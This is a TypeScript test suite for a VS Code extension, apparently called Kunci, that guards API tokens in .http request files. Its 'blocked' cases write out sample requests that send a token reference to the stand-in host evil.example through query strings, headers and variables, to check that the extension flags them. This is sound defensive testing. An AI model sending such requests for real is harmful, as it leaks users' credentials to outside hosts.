import assert from 'node:assert/strict';
import { mkdir } from 'node:fs/promises';
import { join } from 'node:path';
import { setTimeout as wait } from 'node:timers/promises';
import { workbench } from '../../harness/workbench';
import { until } from '../../support/until';
import { call, editorText, setLifetime } from '../fixture';
import {
  decorations,
  openUntitled,
  reference,
  replaceText,
  untilDecorated,
  useOutletFile,
} from './httpFilesFixture';

describe('an open .http file', () => {
  const { fixture, text } = useOutletFile();

  before(async () => {
    // A setting of an extension that is not installed cannot be written by the editor.
    const variables = {
      $shared: { evil: 'https://evil.example', indirect: 'GOBIZ_OUTLET_TOKEN' },
      here: { host: fixture.sandbox.gobiz.url },
      there: { host: 'https://evil.example' },
    };
    await mkdir(join(workbench.folder, '.vscode'), { recursive: true });
    await workbench.writeFile(
      '.vscode/settings.json',
      JSON.stringify({ 'rest-client.environmentVariables': variables }),
    );
    await workbench.reload();
  });
  after(async () => {
    await workbench.removeFile('.vscode/settings.json');
    await workbench.reload();
  });
  afterEach(() => setLifetime(fixture.sandbox, 3600));

  it('shows the valid token, masked', async () => {
    await workbench.driver.openFile('outlets.http');
    await untilDecorated(/until/);
    await call('copyToken', 'outlet');
    const token = await workbench.driver.clipboard();
    assert.match(token, /^sbx_/);
    await untilDecorated(new RegExp(`^${token.slice(0, 4)}…${token.slice(-4)} · until \\d\\d:\\d\\d$`));
  });

  it('has a valid token of 5 seconds at each of 60 looks, while it is visible', async () => {
    setLifetime(fixture.sandbox, 5);
    await workbench.driver.openFile('outlets.http');
    await untilDecorated(/until|expires/);
    const seen: string[] = [];
    for (let look = 0; look < 60; look++) {
      seen.push(...(await decorations()));
      await wait(100);
    }
    assert.deepEqual(
      seen.filter((text) => /expired|no token/.test(text)),
      [],
    );
  });

  it('has no token refreshed while it is behind another tab', async () => {
    setLifetime(fixture.sandbox, 5);
    await workbench.driver.openFile('outlets.http');
    await untilDecorated(/until|expires/);
    await openUntitled('GET https://h.example\n');
    await wait(500);
    const requests = fixture.tokenRequests();
    // Longer than the token lives.
    await wait(5500);
    assert.equal(fixture.tokenRequests(), requests);
    await workbench.host.run((vscode) =>
      vscode.commands.executeCommand('workbench.action.revertAndCloseActiveEditor'),
    );
    await until(async () => fixture.tokenRequests() > requests);
  });

  it('does not fetch a forgotten token again by itself', async () => {
    await workbench.driver.openFile('outlets.http');
    await untilDecorated(/until/);
    const requests = fixture.tokenRequests();
    await call('forgetToken', 'outlet');
    await untilDecorated(/^no token yet$/);
    await wait(500);
    assert.equal(fixture.tokenRequests(), requests);
  });

  const blocked: readonly [name: string, text: (url: string) => string][] = [
    ['another host', () => `GET https://evil.example/?t=${reference}\n`],
    ['a host by file variable', () => `@host = https://evil.example\nGET {{host}}/\nX: ${reference}\n`],
    ['a host by environment', () => `GET {{evil}}/\nX: ${reference}\n`],
    ['another port', () => `GET https://evil.example:8443/\nX: ${reference}\n`],
    ['a variable that holds the reference', () => `@t = ${reference}\nGET https://evil.example/?{{t}}\n`],
    ['an indirect name', () => 'GET https://evil.example/?{{$processEnv %indirect}}\n'],
  ];
  for (const [name, evil] of blocked) {
    it(`says that Kunci will block a request with ${name}, and no more once the text is right`, async () => {
      await openUntitled(evil(fixture.sandbox.gobiz.url));
      await until(async () =>
        (await problems()).some((one) =>
          /^evil\.example.* is not an allowed host of “outlet”\. Kunci/.test(one),
        ),
      );
      await replaceText(text());
      await until(async () => (await problems()).length === 0);
    });
  }

  const unsure: readonly [name: string, text: (url: string) => string][] = [
    ['a host of the environment', () => `GET {{host}}/\nX: ${reference}\n`],
    ['a host that nobody knows', () => `GET {{nobody}}/\nX: ${reference}\n`],
    ['a host by .env', () => `GET {{$dotenv EVIL}}/\nX: ${reference}\n`],
    ['a Host header', (url) => `GET ${url}/\nHost: evil.example\nX: ${reference}\n`],
    ['a client ID alone', () => 'GET https://evil.example/\nX: {{$processEnv GOBIZ_OUTLET_CLIENT_ID}}\n'],
  ];
  for (const [index, [name, text]] of unsure.entries()) {
    it(`says nothing about a request with ${name}`, async () => {
      // A name for each, as what was reported for the test before is still there for a moment.
      const other = `GET https://h.example\nX: {{$processEnv GOBIZ_NOBODY${index}_TOKEN}}`;
      await openUntitled(`${text(fixture.sandbox.gobiz.url)}\n###\n${other}`);
      await until(async () => (await problems()).some((one) => one.includes(`NOBODY${index}_`)));
      assert.deepEqual(
        (await problems()).filter((one) => one.includes('block')),
        [],
      );
    });
  }

  it('takes its client’s new name, also where it was edited after that was offered', async () => {
    const { driver } = workbench;
    const { quickInput } = driver;
    await driver.openFile('outlets.http');
    void call('editClient', 'outlet');
    await quickInput.waitFor('Edit “outlet”');
    await quickInput.pick('Name');
    await quickInput.waitFor('Name the client');
    await quickInput.answer('branch');
    await driver.notifications().getByText('still uses GOBIZ_OUTLET').waitFor();
    await driver.press('Escape');
    await quickInput.waitUntilClosed();
    await replaceText(`# edited\n${text()}`);
    await driver.answerNotification('Rename References');
    await until(async () => (await editorText()).includes('BRANCH'));
    assert.equal(await editorText(), `# edited\n${text().replace('GOBIZ_OUTLET', 'GOBIZ_BRANCH')}`);
  });
});

/** What is reported for the active document. */
function problems(): Promise<readonly string[]> {
  return workbench.host.run((vscode) => {
    const uri = vscode.window.activeTextEditor?.document.uri;
    return uri ? vscode.languages.getDiagnostics(uri).map(({ message }) => message) : [];
  });
}
